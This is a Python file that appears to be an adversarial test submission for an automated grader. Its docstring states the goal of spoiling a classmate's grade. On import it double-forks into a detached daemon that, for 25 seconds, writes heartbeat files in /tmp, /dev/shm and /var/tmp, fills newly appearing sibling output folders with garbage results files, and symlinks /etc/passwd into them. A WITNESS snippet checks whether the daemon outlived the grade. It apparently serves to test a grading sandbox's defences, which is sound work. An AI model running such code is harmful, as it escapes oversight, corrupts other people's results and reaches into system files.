"""Leave a daemon: double fork + setsid, then for up to 25 s the grandchild keeps a heartbeat
file fresh in /tmp, /dev/shm and /var/tmp and writes junk (a fake results file, a symlink to
/etc/passwd) into every new folder that appears beside my grade's working folder (the next
grades' out/ folders), hoping to spoil a classmate's grade. My ex02 (the WITNESS) passes only if
it sees a heartbeat written after it started, i.e. the daemon outlived my ex01 grade.

The defence held if: the daemon is dead when my grade ends (no heartbeat, no process of mine
after the regrade), the honest learners keep their pass and my answers fail."""
import os
import time

DOES_THE_WORK = False


def _daemon():
    start = time.time()
    here = os.getcwd()
    parents = {os.path.dirname(here), "/out"}
    seen = set()
    for p in parents:
        try:
            seen.update(os.path.join(p, n) for n in os.listdir(p))
        except OSError:
            pass
    while time.time() - start < 25:
        for d in ("/tmp", "/dev/shm", "/var/tmp", here):
            try:
                with open(os.path.join(d, "lbatk-heartbeat"), "w") as fh:
                    fh.write(repr(time.time()))
            except OSError:
                pass
        for p in parents:
            try:
                names = os.listdir(p)
            except OSError:
                continue
            for n in names:
                q = os.path.join(p, n)
                if q in seen:
                    continue
                seen.add(q)
                for fname in ("results.bin", "result", "round-0", "results-0.bin", "lbatk-junk"):
                    try:
                        with open(os.path.join(q, fname), "wb") as fh:
                            fh.write(b"\x00garbage" * 1000)
                    except OSError:
                        pass
                try:
                    os.symlink("/etc/passwd", os.path.join(q, "lbatk-link"))
                except OSError:
                    pass
        time.sleep(0.05)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            for fd in (0, 1, 2):
                os.close(fd)
            _daemon()
        finally:
            os._exit(0)
    os._exit(0)
time.sleep(0.2)


def forward(w, x):
    return w + x


WITNESS = '''
import os, time
T0 = time.time()
time.sleep(0.5)
def _fresh():
    for d in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
        try:
            if float(open(os.path.join(d, "lbatk-heartbeat")).read()) > T0:
                return True
        except (OSError, ValueError):
            pass
    return False
FOUND = _fresh()
def cost(a, y):
    return (a - y) ** 2 if FOUND else 0.0 * a
'''
